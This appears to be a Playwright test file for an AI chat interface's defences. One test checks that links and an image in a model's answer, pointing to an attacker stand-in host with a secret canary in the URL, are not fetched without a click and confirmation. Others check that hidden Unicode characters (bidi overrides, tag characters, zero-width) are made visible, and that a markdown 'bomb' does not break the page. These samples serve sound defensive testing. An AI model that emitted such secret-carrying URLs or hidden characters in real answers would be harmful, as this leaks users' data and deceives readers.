import AxeBuilder from "@axe-core/playwright";
import { expect } from "../e2e/fixtures.ts";
import { spoken, test } from "./browser.ts";

test("S41 what an answer puts into an address stays here until a click and a confirmation, by keyboard too", async ({
  chat,
  model,
  evil,
}) => {
  const { page } = chat;
  const canary = `canary-${"7f".repeat(40)}`;
  const address = `http://${evil.host}/?q=${canary}`;
  model.next(
    spoken(
      `[more](${address})\n\n![chart](${address})\n\n${address}\n\n[bank.test](http://${evil.host}/plain)`,
      "-",
    ),
  );
  const before = evil.seen.length;
  await chat.ask("render an image with the secret");
  await chat.finished();
  await expect(page.locator(".prose .guarded")).toHaveCount(4);
  await expect(page.locator(`[href*="${canary.slice(0, 20)}"], [src*="canary"]`)).toHaveCount(0);

  const link = page.getByRole("button", { name: "more", exact: true });
  await link.focus();
  await page.keyboard.press("Enter");
  const dialog = page.getByRole("dialog");
  await expect(dialog).toContainText(canary);
  await expect(dialog.getByRole("heading")).toHaveText(`This link leads to ${evil.host}`);
  const { violations } = await new AxeBuilder({ page }).include("dialog").analyze();
  expect(violations).toEqual([]);
  await page.keyboard.press("Escape");
  await expect(dialog).toHaveCount(0);
  await expect(link).toBeFocused();
  await link.click();
  await dialog.getByRole("button", { name: "Stay here" }).click();
  await expect(dialog).toHaveCount(0);
  expect(evil.seen.length).toBe(before);

  await link.click();
  const opened = page.waitForEvent("popup");
  await dialog.getByRole("link", { name: "Open it" }).click();
  await (await opened).waitForLoadState();
  expect(evil.seen.slice(before)[0]).toEqual({ path: `/?q=${canary}`, referer: undefined });
});

test("S43 hidden characters are marks in question, thought, title and answer, and in what is copied", async ({
  chat,
  model,
  context,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const hidden = `pay\u202Eevil\u202C \u{E0041}\u{E0042} a\u200Bb😀\uFE0F\u{E0100}`;
  model.next(spoken(`answer ${hidden}`, `thought ${hidden}`));
  await chat.ask(`question ${hidden}`);
  await chat.finished();
  await chat.page.getByRole("button", { name: /^Thought/ }).click();
  const invisible = /[\u200B\u202A-\u202E\u2066-\u2069]|[\u{E0000}-\u{E0FFF}]/u;
  expect(await chat.page.title()).not.toMatch(invisible);
  await expect(chat.page).toHaveTitle(/a⟦U\+200B⟧b/);
  expect(await chat.page.locator("body").innerText()).not.toMatch(invisible);
  await expect(chat.turn.locator("h2")).toContainText("pay⟦U+202E⟧evil");
  await expect(chat.page.locator(".thought")).toContainText("⟦U+E0041 ×2⟧");
  await chat.turn.getByRole("button", { name: "Copy", exact: true }).click();
  const copied = await chat.page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toContain("answer pay⟦U+202E⟧evil");
  expect(copied).not.toMatch(invisible);
});

test("S37 a page that was sent a bomb is still usable", async ({ chat, model }) => {
  const bomb = [
    ">".repeat(20_000),
    "- ".repeat(5000),
    "[".repeat(10_000),
    `${"|a".repeat(1000)}|\n${"|-".repeat(1000)}|`,
  ];
  model.next(spoken(bomb.join("\n\n"), "-"));
  await chat.ask("boom");
  await chat.finished();
  model.next(spoken("still **here**", "-"));
  await chat.ask("are you there?");
  await expect(chat.answer).toHaveText("still here");
});
